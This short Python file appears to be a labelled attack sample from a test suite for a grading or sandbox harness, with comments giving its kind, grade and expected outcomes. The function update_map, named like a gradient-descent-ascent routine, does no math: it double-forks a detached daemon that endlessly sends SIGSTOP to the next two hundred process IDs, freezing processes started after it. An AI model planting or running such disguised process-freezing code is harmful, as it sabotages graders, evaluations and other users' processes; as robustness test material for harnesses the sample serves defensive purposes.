# attack: leaves a daemon that stops every process that starts after it
# kind: ending
# grade: 1.b
# outcome: exit, timeout, protocol
# module: saddle

import os
import signal


def hunt():
    own = os.getpid()
    while True:
        for process in range(own + 1, own + 200):
            try:
                os.kill(process, signal.SIGSTOP)
            except OSError:
                continue


def update_map(f, x, y, eta_x, eta_y, method="gda"):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.closerange(3, 256)
            hunt()
        os._exit(0)
    os._exit(1)
